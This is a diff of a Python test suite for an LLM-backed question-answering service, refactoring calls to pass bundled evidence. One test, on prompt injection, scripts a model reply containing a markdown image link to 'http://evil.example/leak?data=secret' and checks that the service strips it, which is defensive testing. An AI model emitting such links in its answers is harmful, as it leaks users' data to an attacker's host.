@@ -16,7 +16,12 @@ from qa_service.config import Settings
 from qa_service.errors import LLMTimeout, LLMUnavailable, QAError
 from qa_service.schemas import Passage
 from qa_service.tokens import Tokenizer
-from tests.answer.conftest import KOREAN_PAGE_PREFIX, assert_citations_exact, make_passages
+from tests.answer.conftest import (
+    KOREAN_PAGE_PREFIX,
+    assert_citations_exact,
+    evidence_of,
+    make_passages,
+)
 from tests.llm_server import Reply, ScriptedLLM
 
 QUESTION = "How long does the Aurora 3 battery last?"
@@ -33,7 +38,7 @@ Make = Callable[..., Settings]
 
 def streamed(answerer: LLMAnswerer, question: str, passages: list[Passage]
              ) -> tuple[list[str], Answer]:
-    items = list(answerer.stream(question, passages))
+    items = list(answerer.stream(evidence_of(question, passages)))
     assert all(isinstance(item, str) for item in items[:-1])
     final = items[-1]
     assert isinstance(final, Answer)
@@ -43,7 +48,7 @@ def streamed(answerer: LLMAnswerer, question: str, passages: list[Passage]
 def test_answer_keeps_checked_citations(llm_settings: Make, scripted_llm: ScriptedLLM,
                                         english: list[Passage], tokenizer: Tokenizer) -> None:
     scripted_llm.reply(GOOD_REPLY)
-    answer = LLMAnswerer(llm_settings(), tokenizer).answer(QUESTION, english)
+    answer = LLMAnswerer(llm_settings(), tokenizer).answer(evidence_of(QUESTION, english))
     assert answer.mode is AnswerMode.LLM and not answer.abstained
     assert answer.answer == ("The Aurora 3 battery lasts 14 hours on one charge. [1] "
                              "It weighs 1.2 kilograms. [2]")
@@ -61,7 +66,7 @@ def test_request_carries_the_settings_and_the_prompt(llm_settings: Make,
                                                      tokenizer: Tokenizer) -> None:
     scripted_llm.reply(GOOD_REPLY)
     settings = llm_settings(llm_max_tokens=123, llm_temperature=0.3)
-    LLMAnswerer(settings, tokenizer).answer(QUESTION, english)
+    LLMAnswerer(settings, tokenizer).answer(evidence_of(QUESTION, english))
     (request,) = scripted_llm.requests
     assert request["model"] == "scripted"
     assert request["max_tokens"] == 123 and request["temperature"] == 0.3
@@ -78,7 +83,7 @@ def test_stream_yields_pieces_then_the_same_answer(llm_settings: Make,
                                                    tokenizer: Tokenizer) -> None:
     answerer = LLMAnswerer(llm_settings(), tokenizer)
     scripted_llm.reply(GOOD_REPLY)
-    plain = answerer.answer(QUESTION, english)
+    plain = answerer.answer(evidence_of(QUESTION, english))
     scripted_llm.reply(GOOD_REPLY)
     pieces, final = streamed(answerer, QUESTION, english)
     assert len(pieces) >= 5 and "".join(pieces) == GOOD_REPLY
@@ -93,15 +98,15 @@ def test_stream_abandoned_midway_closes_cleanly(llm_settings: Make,
                                                  tokenizer: Tokenizer) -> None:
     answerer = LLMAnswerer(llm_settings(), tokenizer)
     scripted_llm.reply(GOOD_REPLY)
-    items = answerer.stream(QUESTION, english)
+    items = answerer.stream(evidence_of(QUESTION, english))
     assert isinstance(items, Generator)
     assert next(items) == "The "
     items.close()  # the consumer went away: the response is closed, nothing is raised
     scripted_llm.reply("NOT_IN_DOCUMENTS")
-    assert answerer.answer(QUESTION, english).abstained
+    assert answerer.answer(evidence_of(QUESTION, english)).abstained
     answerer.close()
     scripted_llm.reply("NOT_IN_DOCUMENTS")
-    assert answerer.answer(QUESTION, english).abstained  # reopens after close()
+    assert answerer.answer(evidence_of(QUESTION, english)).abstained  # reopens after close()
     answerer.close()
 
 
@@ -114,8 +119,9 @@ def test_prompt_injection_changes_nothing_and_leaks_no_url(llm_settings: Make,
     echo = ("Quarterly revenue grew by 10 percent [1]. ![x](http://evil.example/leak?data=secret)"
             " Details: [click](http://evil.example) [1].")
     scripted_llm.reply("Revenue grew by 10 percent [1].")
-    answerer.answer("How did revenue change?", benign)
-    for answer in (answerer.answer, lambda q, p: streamed(answerer, q, p)[1]):
+    answerer.answer(evidence_of("How did revenue change?", benign))
+    for answer in (lambda q, p: answerer.answer(evidence_of(q, p)),
+                   lambda q, p: streamed(answerer, q, p)[1]):
         scripted_llm.reply(echo)
         result = answer("How did revenue change?", hostile)
         assert "evil.example" not in result.answer and "secret" not in result.answer
@@ -135,7 +141,7 @@ def test_decline_abstains_with_the_plain_message(llm_settings: Make,
                                                  tokenizer: Tokenizer) -> None:
     answerer = LLMAnswerer(llm_settings(), tokenizer)
     scripted_llm.reply("NOT_IN_DOCUMENTS")
-    answer = answerer.answer("Who founded the company?", english)
+    answer = answerer.answer(evidence_of("Who founded the company?", english))
     assert answer.abstained and answer.citations == [] and answer.passages == english
     assert answer.answer == abstention_text("Who founded the company?")
     scripted_llm.reply("NOT_IN_DOCUMENTS")
@@ -146,7 +152,7 @@ def test_no_passages_abstains_without_calling_the_llm(llm_settings: Make,
                                                       scripted_llm: ScriptedLLM,
                                                       tokenizer: Tokenizer) -> None:
     answerer = LLMAnswerer(llm_settings(), tokenizer)
-    assert answerer.answer(QUESTION, []).abstained
+    assert answerer.answer(evidence_of(QUESTION, [])).abstained
     assert streamed(answerer, QUESTION, [])[1].abstained
     assert scripted_llm.requests == []
 
@@ -156,7 +162,7 @@ def test_korean_question_and_passages(llm_settings: Make, scripted_llm: Scripted
     answerer = LLMAnswerer(llm_settings(), tokenizer)
     question = "대한민국의 수도는 어디인가요?"
     scripted_llm.reply("대한민국의 수도는 서울입니다 [1].")
-    answer = answerer.answer(question, korean)
+    answer = answerer.answer(evidence_of(question, korean))
     assert answer.answer == "대한민국의 수도는 서울입니다. [1]"
     assert answer.citations[0].quote == "서울은 대한민국의 수도이다."
     assert_citations_exact(answer, KOREAN_PAGE_PREFIX)
@@ -170,7 +176,8 @@ def test_server_down_is_unavailable(dead_base_url: str, english: list[Passage],
                                     tokenizer: Tokenizer) -> None:
     settings = Settings(llm_base_url=dead_base_url, llm_model="scripted", llm_timeout=5.0)
     answerer = LLMAnswerer(settings, tokenizer)
-    for call in (answerer.answer, lambda q, p: list(answerer.stream(q, p))):
+    for call in (lambda q, p: answerer.answer(evidence_of(q, p)),
+                 lambda q, p: list(answerer.stream(evidence_of(q, p)))):
         with pytest.raises(LLMUnavailable) as caught:
             call(QUESTION, english)
         assert caught.value.http_status == 502 and caught.value.code == "llm_unavailable"
@@ -187,9 +194,9 @@ def test_slow_server_times_out(streaming: bool, llm_settings: Make, scripted_llm
     started = time.monotonic()
     with pytest.raises(LLMTimeout) as caught:
         if streaming:
-            list(answerer.stream(QUESTION, english))
+            list(answerer.stream(evidence_of(QUESTION, english)))
         else:
-            answerer.answer(QUESTION, english)
+            answerer.answer(evidence_of(QUESTION, english))
     assert time.monotonic() - started < 5
     assert caught.value.http_status == 504 and caught.value.code == "llm_timeout"
     assert "0.5 s" in caught.value.message and "QA_LLM_TIMEOUT" in caught.value.message
@@ -202,7 +209,7 @@ def test_stream_that_stalls_midway_times_out(llm_settings: Make, scripted_llm: S
     scripted_llm.reply(GOOD_REPLY, chunk_delay=30)
     received: list[str | Answer] = []
     with pytest.raises(LLMTimeout):
-        for item in answerer.stream(QUESTION, english):
+        for item in answerer.stream(evidence_of(QUESTION, english)):
             received.append(item)
     assert received == ["The "]
 
@@ -215,9 +222,9 @@ def test_http_error_is_unavailable(streaming: bool, llm_settings: Make,
     scripted_llm.fail(500, "model crashed: out of memory")
     with pytest.raises(LLMUnavailable) as caught:
         if streaming:
-            list(answerer.stream(QUESTION, english))
+            list(answerer.stream(evidence_of(QUESTION, english)))
         else:
-            answerer.answer(QUESTION, english)
+            answerer.answer(evidence_of(QUESTION, english))
     assert caught.value.http_status == 502
     assert "HTTP 500" in caught.value.message
     assert "model crashed: out of memory" in caught.value.message
@@ -227,7 +234,8 @@ def test_wrong_key_names_the_setting(llm_settings: Make, scripted_llm: ScriptedL
                                      english: list[Passage], tokenizer: Tokenizer) -> None:
     scripted_llm.fail(401, "invalid api key")
     with pytest.raises(LLMUnavailable, match="HTTP 401: invalid api key; check QA_LLM_API_KEY"):
-        LLMAnswerer(llm_settings(llm_api_key="wrong"), tokenizer).answer(QUESTION, english)
+        LLMAnswerer(llm_settings(llm_api_key="wrong"), tokenizer).answer(
+            evidence_of(QUESTION, english))
 
 
 @pytest.mark.parametrize("reply", [
@@ -240,14 +248,14 @@ def test_malformed_reply_is_unavailable(reply: Reply, llm_settings: Make,
                                         tokenizer: Tokenizer) -> None:
     scripted_llm.enqueue(reply)
     with pytest.raises(LLMUnavailable, match="QA_LLM_BASE_URL"):
-        LLMAnswerer(llm_settings(), tokenizer).answer(QUESTION, english)
+        LLMAnswerer(llm_settings(), tokenizer).answer(evidence_of(QUESTION, english))
 
 
 def test_malformed_stream_is_unavailable(llm_settings: Make, scripted_llm: ScriptedLLM,
                                          english: list[Passage], tokenizer: Tokenizer) -> None:
     scripted_llm.enqueue(Reply(raw=b"data: {not json\n\n"))
     with pytest.raises(LLMUnavailable, match="malformed"):
-        list(LLMAnswerer(llm_settings(), tokenizer).stream(QUESTION, english))
+        list(LLMAnswerer(llm_settings(), tokenizer).stream(evidence_of(QUESTION, english)))
 
 
 def test_missing_model_is_a_configuration_error(llm_settings: Make,
@@ -262,9 +270,10 @@ def test_api_key_is_sent_as_a_bearer_token(llm_settings: Make, scripted_llm: Scr
                                            english: list[Passage],
                                            tokenizer: Tokenizer) -> None:
     scripted_llm.reply("NOT_IN_DOCUMENTS")
-    LLMAnswerer(llm_settings(), tokenizer).answer(QUESTION, english)
+    LLMAnswerer(llm_settings(), tokenizer).answer(evidence_of(QUESTION, english))
     scripted_llm.reply("NOT_IN_DOCUMENTS")
-    LLMAnswerer(llm_settings(llm_api_key="sk-test"), tokenizer).answer(QUESTION, english)
+    LLMAnswerer(llm_settings(llm_api_key="sk-test"), tokenizer).answer(
+        evidence_of(QUESTION, english))
     assert [h["authorization"] for h in scripted_llm.headers] == [
         "Bearer not-needed", "Bearer sk-test"]
 
@@ -276,5 +285,5 @@ def test_replies_can_be_a_function_of_the_request(english: list[Passage],
 
     with ScriptedLLM(respond) as llm:
         settings = Settings(llm_base_url=llm.base_url, llm_model="m1", llm_timeout=5.0)
-        answer = LLMAnswerer(settings, tokenizer).answer(QUESTION, english)
+        answer = LLMAnswerer(settings, tokenizer).answer(evidence_of(QUESTION, english))
     assert answer.answer == "The Aurora 3 weighs 1.2 kilograms, says m1. [2]"
